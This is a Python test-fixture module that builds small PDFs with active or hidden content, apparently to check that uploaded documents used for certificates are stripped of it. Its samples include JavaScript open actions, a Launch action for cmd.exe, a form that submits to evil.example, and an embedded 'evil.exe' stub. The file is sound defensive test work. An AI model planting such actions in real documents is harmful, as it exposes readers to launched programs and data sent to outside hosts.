"""Uploads with active content, external references or hidden content: certificates must contain none of it."""

from collections.abc import Callable, Mapping

from tests.unit.pdf.raw import Body, one_page, stream

_SCRIPT = "<</S/JavaScript/JS(app.alert\\(1\\))>>"
_ATTACHED: Mapping[int, Body] = {
    20: "<</Type/Filespec/F(evil.exe)/UF(evil.exe)/EF<</F 21 0 R>>/AFRelationship/Data>>",
    21: stream(b"MZ evil", "/Type/EmbeddedFile/Subtype/application#2Foctet-stream"),
}
_DOT = "/Subtype/Image/Width 1/Height 1/ColorSpace/DeviceGray/BitsPerComponent 8"
_FORM = "/Subtype/Form/BBox[0 0 99 99]"
_LAYERS: Mapping[int, Body] = {10: "<</Type/OCG/Name(A)>>", 11: "<</Type/OCG/Name(B)/Usage<</Print<<>>>>>>"}


def _annotated(annotation: str, *, catalog: str = "") -> bytes:
    return one_page(
        page="/Annots[10 0 R]", objects={10: f"<</Rect[0 0 9 9]{annotation}>>", **_ATTACHED}, catalog=catalog
    )


def _catalog(entries: str) -> bytes:
    return one_page(catalog=entries, objects={10: _SCRIPT, **_ATTACHED})


def _field(entries: str) -> bytes:
    return _annotated(f"/Type/Annot/Subtype/Widget/FT/Btn/T(B){entries}", catalog="/AcroForm<</Fields[10 0 R]>>")


def _in_the_group() -> bytes:
    page = f"/Group<</S/Transparency/AA<</O {_SCRIPT}>>/A {_SCRIPT}/EF<</F 21 0 R>>/Root 1 0 R/Page 3 0 R>>"
    return one_page(page=page, catalog="/OpenAction 10 0 R", objects={10: _SCRIPT, **_ATTACHED})


def _in_a_later_revision() -> bytes:
    first = one_page()
    table = first.rindex(b"xref\n0")
    catalog = f"1 0 obj\n<</Type/Catalog/Pages 2 0 R/OpenAction{_SCRIPT}>>\nendobj\n".encode()
    later = b"xref\n1 1\n%010d 00000 n \ntrailer\n<</Root 1 0 R/Size 5/Prev %d>>\nstartxref\n%d\n%%%%EOF\n"
    return first + catalog + later % (len(first), table, len(first) + len(catalog))


def _in_an_object_stream() -> bytes:
    """The catalog's action is in a compressed object, where a search of the bytes does not find it."""
    kept = b"10 0 " + _SCRIPT.encode()
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 10 0 R>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 842 595]/AA<</O 10 0 R>>>>",
        4: stream(kept, "/Type/ObjStm/N 1/First 5", packed=True),
    }
    output, entries = b"%PDF-1.5\n", b"\0\0\0\0\0"
    for number, body in objects.items():
        entries += b"\1%b\0" % len(output).to_bytes(3)
        output += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    entries += b"\1%b\0" % len(output).to_bytes(3) + b"\2\0\0\4\0"
    table = stream(entries, "/Type/XRef/Root 1 0 R/Size 11/W[1 3 1]/Index[0 6 10 1]", packed=True)
    return output + b"5 0 obj\n%b\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table, len(output))


ACTIVE: Mapping[str, Callable[[], bytes]] = {
    "a script in the names": lambda: _catalog("/Names<</JavaScript<</Names[(a)10 0 R]>>>>"),
    "a script when it opens": lambda: _catalog("/OpenAction 10 0 R"),
    "another file when it opens": lambda: _catalog("/OpenAction<</S/GoToR/F(evil.pdf)/D[0/Fit]>>"),
    "scripts when it closes, saves and prints": lambda: _catalog("/AA<</WC 10 0 R/WS 10 0 R/WP 10 0 R>>"),
    "a script when its page is seen": lambda: one_page(page=f"/AA<</O{_SCRIPT}>>"),
    "a script in an object stream": _in_an_object_stream,
    "a script in a later revision": _in_a_later_revision,
    "scripts and references in what the page blends with": _in_the_group,
    "a script in a bookmark": lambda: _catalog("/Outlines<</First<</Title(x)/A 10 0 R>>>>/PageMode/UseOutlines"),
    "a script in a requirement": lambda: _catalog("/Requirements[<</S/EnableJavaScripts/RH<</S/JS/Script(x)>>>>]"),
    "a script in a chain of actions": lambda: _catalog(f"/OpenAction<</S/Named/N/Print/Next[{_SCRIPT}10 0 R]>>"),
    "a link that starts a program": lambda: _annotated("/Subtype/Link/A<</S/Launch/Win<</F(cmd.exe)>>>>"),
    "a link to another site": lambda: _annotated("/Subtype/Link/A<</S/URI/URI(https://evil.example)>>"),
    "a link into an embedded file": lambda: _annotated("/Subtype/Link/A<</S/GoToE/T<</R/C/N(evil)>>>>"),
    "a link that changes layers": lambda: _annotated("/Subtype/Link/A<</S/SetOCGState/State[/ON 10 0 R]>>"),
    "a file attached to the page": lambda: _annotated("/Subtype/FileAttachment/FS 20 0 R"),
    "a field with a script": lambda: _field(f"/AA<</K{_SCRIPT}/F{_SCRIPT}>>"),
    "a button that sends": lambda: _field("/A<</S/SubmitForm/F(https://evil.example)>>"),
    "a button that takes in a file": lambda: _field("/A<</S/ImportData/F(evil.fdf)>>"),
    "an XFA form": lambda: _catalog("/AcroForm<</Fields[]/XFA[(template)21 0 R]>>/NeedsRendering true"),
    "embedded files": lambda: _catalog("/Names<</EmbeddedFiles<</Names[(e)20 0 R]>>>>/AF[20 0 R]/Collection<<>>"),
    "rich media": lambda: _annotated(
        "/Subtype/RichMedia/RichMediaContent<</Assets<</Names[(e)20 0 R]>>>>/RichMediaSettings<<>>"
    ),
    "a film and a sound": lambda: _annotated(f"/Subtype/Screen/A<</S/Rendition/OP 0/JS(x)/R<<>>>>/AA<</PO{_SCRIPT}>>"),
    "a solid with a script": lambda: _annotated("/Subtype/3D/3DD<</Type/3D/Subtype/U3D/OnInstantiate 21 0 R>>"),
    "a signature with rights": lambda: _catalog("/Perms<</UR3<</Type/Sig>>>>/DSS<</Certs[21 0 R]>>"),
    "a base for links": lambda: _catalog("/URI<</Base(https://evil.example)>>"),
    "a slide show": lambda: one_page(page=f"/Dur 1/Trans<</S/Fly>>/PresSteps<</NA{_SCRIPT}>>"),
    "metadata with markup": lambda: one_page(
        b"0 0 9 9 re f " * 99,
        catalog="/Metadata 10 0 R",
        page="/Metadata 10 0 R/PieceInfo<</A<</Private 10 0 R>>>>",
        objects={10: stream(b"<x:xmpmeta><script>alert(1)</script></x:xmpmeta>", "/Type/Metadata/Subtype/XML")},
    ),
    "a structure with files": lambda: _catalog("/StructTreeRoot<</K<</S/P/AF 20 0 R/ActualText(evil)>>>>"),
    "a form that stands for another file": lambda: one_page(
        b"/X Do",
        resources="/XObject<</X 10 0 R>>",
        objects={10: stream(b"", f"{_FORM}/Ref<</F 20 0 R/Page 0>>/AF 20 0 R/OPI<<>>/Metadata 21 0 R"), **_ATTACHED},
    ),
    "a form of PostScript": lambda: one_page(
        b"/X Do", resources="/XObject<</X 10 0 R>>", objects={10: stream(b"(x) run", f"{_FORM}/Subtype2/PS/PS 10 0 R")}
    ),
    "an image with alternates elsewhere": lambda: one_page(
        b"/X Do",
        resources="/XObject<</X 10 0 R>>",
        objects={10: stream(b"\0", f"{_DOT}/Alternates[<</Image 11 0 R>>]/OPI<</2.0 20 0 R>>"), **_ATTACHED},
    ),
    "content in another file": lambda: one_page(
        page="/Contents 10 0 R", objects={10: stream(b"", "/F(evil.txt)/FFilter/FlateDecode")}
    ).replace(b"/Contents 4 0 R", b""),
    "a font in another file": lambda: one_page(
        resources="/Font<</F 10 0 R>>",
        objects={
            10: f"<</Type/Font/Subtype/TrueType/BaseFont/Evil/FontDescriptor 11 0 R/AA<</O{_SCRIPT}>>>>",
            11: f"<</Type/FontDescriptor/FontName/Evil/Flags 4/FontFile2 12 0 R/A{_SCRIPT}>>",
            12: stream(b"no font", "/F(evil.ttf)/AF 20 0 R/EF<</F 21 0 R>>"),
            **_ATTACHED,
        },
    ),
    "actions among colours and shadings": lambda: one_page(
        resources="/ColorSpace<</C[/Separation/X/DeviceGray 10 0 R]>>/Shading<</S 10 0 R>>"
        f"/ExtGState<</G<</TR {_SCRIPT}>>>>",
        objects={
            10: f"<</FunctionType 2/N 1/Domain[0 1]/OpenAction{_SCRIPT}/Names<</EmbeddedFiles 20 0 R>>>>",
            **_ATTACHED,
        },
    ),
    "an action whose kind stands elsewhere": lambda: one_page(
        resources="/Shading<</S<</ShadingType 2/X<</S 10 0 R/JS(app.alert\\(1\\))>>/Extend 11 0 R>>>>",
        objects={10: "/JavaScript", 11: "true"},
    ),
    "layers shown by an expression": lambda: one_page(
        b"/OC/M BDC 0 0 9 9 re f EMC",
        resources="/Properties<</M 12 0 R>>",
        catalog="/OCProperties<</OCGs[10 0 R 11 0 R]/D<</OFF[11 0 R]>>>>",
        objects={**_LAYERS, 12: "<</Type/OCMD/VE[/And 10 0 R[/Not[/Or 11 0 R 10 0 R]]]>>"},
    ),
    "an expression that holds itself": lambda: one_page(
        b"/OC/M BDC 0 0 9 9 re f EMC",
        resources="/Properties<</M 12 0 R>>",
        catalog="/OCProperties<</OCGs[10 0 R 11 0 R]/D<</BaseState/OFF>>>>",
        objects={**_LAYERS, 12: "<</Type/OCMD/VE 13 0 R/OCGs[12 0 R]>>", 13: "[/Not 13 0 R]"},
    ),
    "text on a layer that shows by itself in print": lambda: one_page(
        b"/X Do",
        resources="/XObject<</X 12 0 R>>",
        catalog="/OCProperties<</OCGs[10 0 R 11 0 R]/D<</OFF[11 0 R]"
        "/AS[<</Event/Print/OCGs[11 0 R]/Category[/Print]>>]>>>>",
        objects={**_LAYERS, 12: stream(b"0 0 9 9 re f", f"{_FORM}/OC 11 0 R")},
    ),
}
